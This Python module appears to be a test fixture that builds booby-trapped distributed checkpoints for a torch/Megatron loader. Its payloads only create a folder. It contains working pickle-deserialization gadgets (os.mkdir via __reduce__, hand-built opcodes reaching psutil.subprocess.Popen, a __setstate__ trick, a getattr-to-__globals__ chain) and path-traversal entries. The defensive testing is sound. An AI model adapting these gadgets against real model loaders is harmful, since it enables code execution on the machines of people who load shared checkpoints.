"""Checkpoints as somebody who wants to run code here would hand them over: each makes a folder `hurt` when its bytes
are trusted."""

import io
import json
import os
import pickle
import struct
from collections.abc import Callable
from pathlib import Path
from typing import Any

import torch
from torch.distributed.checkpoint.metadata import BytesStorageMetadata, MetadataIndex

from common import manifest

RNG = "rng.rank_00000"


class Bomb:
    """Unpickled without care, this makes a folder."""

    def __init__(self, path: str | Path):
        self.path = str(path)

    def __reduce__(self) -> tuple[Any, ...]:
        return os.mkdir, (self.path,)


def dotted(folder: Path, hurt: Path) -> None:
    """A name that leads from a module which is allowed to a function of another."""
    call = _global("torch.distributed.checkpoint.metadata", "os.mkdir") + b"(" + _text(str(hurt)) + b"tR."
    (folder / ".metadata").write_bytes(b"\x80\x04" + call)


def by_psutil(folder: Path, hurt: Path) -> None:
    """A program by way of a module that an allowed one imports; the class is one, as those of descriptions are."""
    popen = _global("megatron.core.dist_checkpointing.strategies.filesystem_async", "psutil.subprocess.Popen")
    command = b"(" + _text("mkdir") + _text(str(hurt)) + b"l"  # no shell: a list
    (folder / ".metadata").write_bytes(b"\x80\x04" + popen + b"(" + command + b"tR.")


def bomb(folder: Path, hurt: Path) -> None:
    """A plain one."""
    (folder / ".metadata").write_bytes(pickle.dumps(Bomb(hurt)))


def bomb_within(folder: Path, hurt: Path) -> None:
    """In a part of a right description that nobody needs."""
    edit(folder, lambda metadata: setattr(metadata, "planner_data", {"net": Bomb(hurt)}))


def built(folder: Path, hurt: Path) -> None:
    """BUILD gives a class of the description a method to call instead of a field."""
    state = b"(N}" + _text("__setstate__") + _global("posix", "mkdir") + b"st"
    target = _global("torch.distributed.checkpoint.metadata", "StorageMeta")
    (folder / ".metadata").write_bytes(
        b"\x80\x04" + target + state + b"b0" + target + b")\x81" + _text(str(hurt)) + b"b."
    )


def by_getattr(folder: Path, hurt: Path) -> None:
    """What Python 3.11.0 calls for enumerations, on something else."""
    owner = _global("torch.distributed.checkpoint.metadata", "Metadata")
    member = _global("builtins", "getattr") + b"("
    asked = member + member + owner + _text("__init__") + b"tR" + _text("__globals__") + b"tR"
    (folder / ".metadata").write_bytes(b"\x80\x04" + asked + b".")


def bytes_entry(folder: Path, hurt: Path) -> None:
    """The states of the generators are declared an object: torch unpickles those."""
    data = io.BytesIO()
    torch.save(Bomb(hurt), data)

    def change(metadata: Any) -> None:
        place = next(info for index, info in metadata.storage_data.items() if index.fqn == RNG)
        file = folder / place.relative_path
        place.offset, place.length = file.stat().st_size, len(data.getvalue())
        with file.open("ab") as stream:
            stream.write(data.getvalue())
        size = metadata.state_dict_metadata[RNG].size
        metadata.state_dict_metadata[RNG] = BytesStorageMetadata()
        metadata.state_dict_metadata[RNG].size = size  # which is looked at before
        metadata.storage_data = {index: info for index, info in metadata.storage_data.items() if index.fqn != RNG}
        metadata.storage_data[MetadataIndex(RNG)] = place

    edit(folder, change)


def tensor_files(folder: Path, hurt: Path) -> None:
    """Pickles in place of the tensors, whole and as torch writes them."""
    for number, file in enumerate(sorted(folder.glob("*.distcp"))):
        data = io.BytesIO()
        torch.save(Bomb(hurt), data)
        file.write_bytes(pickle.dumps(Bomb(hurt)) if number else data.getvalue())

    def change(metadata: Any) -> None:
        for info in metadata.storage_data.values():
            info.offset, info.length = 0, len(data.getvalue())

    edit(folder, change)


def common(folder: Path, hurt: Path) -> None:
    """The plain values."""
    torch.save({"state": Bomb(hurt), "optimizer": "adamw", "updates": 3, "layout": {}}, folder / "common.pt")


def common_pickle(folder: Path, hurt: Path) -> None:
    """The plain values, in the format of old."""
    (folder / "common.pt").write_bytes(pickle.dumps(Bomb(hurt)))


def elsewhere(path: str) -> Callable[[Path, Path], None]:
    """Tensors are said to lie in another folder."""

    def attack(folder: Path, hurt: Path) -> None:
        def change(metadata: Any) -> None:
            for info in metadata.storage_data.values():
                info.relative_path = path

        edit(folder, change)

    attack.__name__ = f"elsewhere {path}"
    return attack


def another_backend(folder: Path, hurt: Path) -> None:
    """The format is said to be another."""
    (folder / "metadata.json").write_text(json.dumps({"sharded_backend": "zarr", "common_backend": "torch"}))


OUTSIDE = [elsewhere(path) for path in ("../x.distcp", "/tmp/x.distcp", "a/../../x.distcp", ".metadata")]
READ = [dotted, by_psutil, bomb, bomb_within, built, by_getattr, bytes_entry, another_backend, *OUTSIDE]
"""Those that reading the description finds."""
ALL = [*READ, tensor_files, common, common_pickle]


def handed_over(checkpoint: Path, attack: Callable[[Path, Path], None], hurt: Path) -> None:
    """Attack the Megatron half of a whole checkpoint, and list its files as they are then."""
    attack(checkpoint / "megatron", hurt)
    manifest.write(checkpoint, manifest.read(checkpoint) | {"files": manifest.digests(checkpoint)})


def edit(folder: Path, change: Callable[[Any], None]) -> None:
    """Write the description of a checkpoint again, changed."""
    metadata = pickle.loads((folder / ".metadata").read_bytes())  # noqa: S301 - ours until now
    change(metadata)
    (folder / ".metadata").write_bytes(pickle.dumps(metadata))


def _global(module: str, name: str) -> bytes:
    return _text(module) + _text(name) + b"\x93"


def _text(value: str) -> bytes:
    return b"X" + struct.pack("<I", len(value.encode())) + value.encode()
